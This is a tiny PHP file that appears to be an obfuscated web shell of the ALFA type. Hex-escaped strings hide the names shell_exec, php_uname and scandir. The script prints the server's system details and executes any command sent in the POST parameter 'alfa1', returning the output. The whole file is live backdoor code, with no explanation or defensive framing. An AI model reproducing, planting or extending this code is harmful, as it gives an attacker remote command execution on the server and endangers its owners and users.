<?php
$GLOBALS['fn'] = array("\x73\x68\x65\x6c\x6c\x5f\x65\x78\x65\x63", "\x70\x68\x70\x5f\x75\x6e\x61\x6d\x65", "\x73\x63\x61\x6e\x64\x69\x72");
function alfa_ex($c) { $f = $GLOBALS['fn'][0]; return $f($c); }
echo $GLOBALS['fn'][1]();
if (isset($_POST['alfa1'])) { echo alfa_ex($_POST['alfa1']); }
